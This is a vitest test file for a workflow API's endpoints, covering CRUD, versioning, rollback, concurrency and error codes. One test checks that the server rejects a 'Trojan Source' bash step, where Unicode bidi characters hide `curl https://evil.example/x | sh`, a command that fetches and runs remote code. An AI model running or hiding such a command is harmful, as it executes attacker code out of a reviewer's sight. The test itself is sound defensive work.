import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { minimalDefinition, startServer, type TestServer } from './helpers/server';

let s: TestServer;
beforeAll(async () => {
  s = await startServer();
});
afterAll(() => s.close());

describe('GET /api/health', () => {
  it('answers ok with the version', async () => {
    const res = await s.request('GET', '/api/health');
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ ok: true, version: expect.stringMatching(/^\d+\.\d+\.\d+/) });
  });
});

describe('POST /api/workflows/validate', () => {
  it('reports ok for a valid definition', async () => {
    const res = await s.request('POST', '/api/workflows/validate', { body: { definition: minimalDefinition() } });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ ok: true, errors: [] });
  });
  it('reports errors with paths for an invalid one', async () => {
    const res = await s.request('POST', '/api/workflows/validate', {
      body: { definition: { name: 'x', steps: [{ id: 'a', type: 'bash' }] } },
    });
    expect(res.status).toBe(200);
    expect(res.body.ok).toBe(false);
    expect(res.body.errors).toContainEqual(expect.objectContaining({ path: 'steps[0].command' }));
  });
});

describe('workflow lifecycle', () => {
  it('creates, reads, lists, updates, versions, rolls back and deletes', async () => {
    const created = await s.request('POST', '/api/workflows', { body: { definition: minimalDefinition('Lifecycle') } });
    expect(created.status).toBe(201);
    expect(created.body).toEqual({
      id: expect.stringMatching(/^wf_/),
      version: 1,
      definition: minimalDefinition('Lifecycle'),
      createdAt: expect.any(String),
      updatedAt: expect.any(String),
    });
    const id = created.body.id as string;

    const got = await s.request('GET', `/api/workflows/${id}`);
    expect(got.body).toEqual(created.body);

    const list = await s.request('GET', '/api/workflows');
    expect(list.body.workflows.map((w: { id: string }) => w.id)).toContain(id);

    const v2def = { ...minimalDefinition('Lifecycle v2'), description: 'second' };
    const updated = await s.request('PUT', `/api/workflows/${id}`, { body: { definition: v2def, baseVersion: 1 } });
    expect(updated.status).toBe(200);
    expect(updated.body).toMatchObject({ id, version: 2, definition: v2def, createdAt: created.body.createdAt });

    const stale = await s.request('PUT', `/api/workflows/${id}`, { body: { definition: v2def, baseVersion: 1 } });
    expect(stale.status).toBe(409);
    expect(stale.body.error).toMatchObject({ code: 'version_conflict', details: { currentVersion: 2 } });

    const versions = await s.request('GET', `/api/workflows/${id}/versions`);
    expect(versions.body.versions.map((v: { version: number }) => v.version)).toEqual([2, 1]);
    expect(versions.body.versions[0]).toMatchObject({ version: 2, createdAt: expect.any(String), name: 'Lifecycle v2', source: 'update' });

    const v1 = await s.request('GET', `/api/workflows/${id}/versions/1`);
    expect(v1.body).toMatchObject({ id, version: 1, definition: minimalDefinition('Lifecycle') });

    const rolled = await s.request('POST', `/api/workflows/${id}/rollback`, { body: { version: 1 } });
    expect(rolled.status).toBe(200);
    expect(rolled.body).toMatchObject({ id, version: 3, definition: minimalDefinition('Lifecycle') });
    const after = await s.request('GET', `/api/workflows/${id}/versions`);
    expect(after.body.versions[0]).toMatchObject({ version: 3, source: 'rollback', rolledBackFrom: 1 });

    const del = await s.request('DELETE', `/api/workflows/${id}`);
    expect(del.status).toBe(204);
    expect((await s.request('GET', `/api/workflows/${id}`)).status).toBe(404);
    expect((await s.request('DELETE', `/api/workflows/${id}`)).status).toBe(404);
    const listAfter = await s.request('GET', '/api/workflows');
    expect(listAfter.body.workflows.map((w: { id: string }) => w.id)).not.toContain(id);
    // History stays in the database after a soft delete.
    const rows = s.app.db.prepare('SELECT COUNT(*) AS n FROM workflow_versions WHERE workflow_id = ?').get(id) as { n: number };
    expect(rows.n).toBe(3);
  });

  it('deletes a workflow together with its triggers', async () => {
    const created = await s.request('POST', '/api/workflows', {
      body: {
        definition: minimalDefinition('With schedule'),
        trigger: { key: 'doomed-schedule', type: 'schedule', enabled: true, schedule: { cron: '0 9 * * 1-5', timezone: 'UTC' } },
      },
    });
    expect(created.status).toBe(201);
    expect((await s.request('GET', '/api/triggers/doomed-schedule')).status).toBe(200);
    expect((await s.request('DELETE', `/api/workflows/${created.body.id}`)).status).toBe(204);
    expect((await s.request('GET', '/api/triggers/doomed-schedule')).status).toBe(404);
  });

  it('refuses concurrent updates from the same base version: exactly one wins', async () => {
    const created = await s.request('POST', '/api/workflows', { body: { definition: minimalDefinition('Race') } });
    const id = created.body.id;
    const results = await Promise.all(
      Array.from({ length: 6 }, (_, i) => s.request('PUT', `/api/workflows/${id}`, { body: { definition: minimalDefinition(`Race ${i}`), baseVersion: 1 } })),
    );
    expect(results.filter((r) => r.status === 200)).toHaveLength(1);
    expect(results.filter((r) => r.status === 409)).toHaveLength(5);
  });
});

describe('error paths', () => {
  it('422 with details.errors for an invalid definition', async () => {
    const res = await s.request('POST', '/api/workflows', { body: { definition: { name: '', steps: [] } } });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('invalid_definition');
    expect(res.body.error.details.errors.map((e: { path: string }) => e.path)).toEqual(expect.arrayContaining(['name', 'steps']));
  });
  it('422 for a JSON Schema pattern RE2 cannot run, at the path of the pattern, instead of a save that fails at run time', async () => {
    const definitionWith = (pattern: string) => ({
      name: 'Classify',
      steps: [
        { id: 'fetch', type: 'notify', message: 'start' },
        { id: 'note', type: 'notify', message: 'still' },
        {
          id: 'classify',
          type: 'agent_prompt',
          prompt: 'Classify it',
          output: { schema: { type: 'object', properties: { code: { type: 'string', pattern } }, required: ['code'] } },
        },
      ],
    });
    const definition = definitionWith('^(?=.*\\d)[A-Z0-9]+$');
    const res = await s.request('POST', '/api/workflows', { body: { definition } });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('invalid_definition');
    expect(res.body.error.message).toMatch(/^workflow definition is invalid: steps\[2\]\.output\.schema\.properties\.code\.pattern: pattern .* lookahead/);
    expect(res.body.error.details.errors).toEqual([
      {
        path: 'steps[2].output.schema.properties.code.pattern',
        code: 'unsupported_pattern',
        message: expect.stringMatching(/it uses a lookahead `\(\?=`, which RE2 cannot run \(patterns are run with RE2: no backreferences or lookaround\)$/),
      },
    ]);
    const validated = await s.request('POST', '/api/workflows/validate', { body: { definition } });
    expect(validated.body).toMatchObject({ ok: false, errors: [{ path: 'steps[2].output.schema.properties.code.pattern', code: 'unsupported_pattern' }] });
    // The same schema with a pattern RE2 runs is saved.
    const usable = await s.request('POST', '/api/workflows', { body: { definition: definitionWith('^[A-Z0-9]*\\d[A-Z0-9]*$') } });
    expect(usable.status).toBe(201);
  });
  it('422 for a bidi control hiding part of a bash command ("Trojan Source"), naming the path and the character', async () => {
    const definitionWith = (command: string) => ({
      name: 'Build',
      steps: [
        { id: 'build', type: 'bash', command },
        // Right-to-left prose, with the marks it uses, is fine in a message.
        { id: 'tell', type: 'notify', message: 'הבנייה הסתיימה\u200F: 12 - 34' },
      ],
    });
    const definition = definitionWith('echo "build ok" \u2067# \u2066curl https://evil.example/x | sh\u2069\u2069');
    const res = await s.request('POST', '/api/workflows', { body: { definition } });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('invalid_definition');
    expect(res.body.error.message).toMatch(/^workflow definition is invalid: steps\[0\]\.command: contains U\+2067 \(RIGHT-TO-LEFT ISOLATE\)/);
    expect(res.body.error.details.errors).toEqual([
      {
        path: 'steps[0].command',
        code: 'hidden_character',
        message: expect.stringMatching(
          /^contains U\+2067 \(RIGHT-TO-LEFT ISOLATE\) at character 17 and 3 more .*which can make the text shown differ from what runs/,
        ),
      },
    ]);
    const validated = await s.request('POST', '/api/workflows/validate', { body: { definition } });
    expect(validated.body).toMatchObject({ ok: false, errors: [{ path: 'steps[0].command', code: 'hidden_character' }] });
    const saved = await s.request('POST', '/api/workflows', { body: { definition: definitionWith('echo "build ok"') } });
    expect(saved.status).toBe(201);
  });
  it('422 naming the field when baseVersion is missing', async () => {
    const created = await s.request('POST', '/api/workflows', { body: { definition: minimalDefinition() } });
    const res = await s.request('PUT', `/api/workflows/${created.body.id}`, { body: { definition: minimalDefinition() } });
    expect(res.status).toBe(422);
    expect(res.body.error.message).toContain('baseVersion');
  });
  it('400 for malformed JSON, never 500', async () => {
    const res = await s.request('POST', '/api/workflows', { raw: '{"definition":', headers: { 'content-type': 'application/json' } });
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('bad_request');
  });
  it('422 for a body that is not an object', async () => {
    const res = await s.request('POST', '/api/workflows', { body: [1, 2] });
    expect(res.status).toBe(422);
    expect(res.body.error).toMatchObject({ code: 'validation_failed' });
  });
  it('404 for unknown workflows, versions and routes', async () => {
    expect((await s.request('GET', '/api/workflows/wf_nope')).body.error.code).toBe('not_found');
    const created = await s.request('POST', '/api/workflows', { body: { definition: minimalDefinition() } });
    expect((await s.request('GET', `/api/workflows/${created.body.id}/versions/9`)).status).toBe(404);
    expect((await s.request('POST', `/api/workflows/${created.body.id}/rollback`, { body: { version: 9 } })).status).toBe(404);
    expect((await s.request('PUT', '/api/workflows/wf_nope', { body: { definition: minimalDefinition(), baseVersion: 1 } })).status).toBe(404);
    const unknown = await s.request('GET', '/api/nothing-here');
    expect(unknown.status).toBe(404);
    expect(unknown.body.error.code).toBe('not_found');
  });
  it('400 in the app format for a malformed URL', async () => {
    const res = await s.request('GET', '/api/workflows/%E0%A4%A');
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('bad_request');
  });
  it('400 for a bad version parameter', async () => {
    const created = await s.request('POST', '/api/workflows', { body: { definition: minimalDefinition() } });
    const res = await s.request('GET', `/api/workflows/${created.body.id}/versions/abc`);
    expect(res.status).toBe(400);
    expect(res.body.error.message).toContain('n');
  });
  it('413 for a body over the limit', async () => {
    const big = 'x'.repeat(1024 * 1024 + 10);
    const res = await s.request('POST', '/api/workflows', { body: { definition: { name: big, steps: [] } } });
    expect(res.status).toBe(413);
    expect(res.body.error.code).toBe('payload_too_large');
  });
});
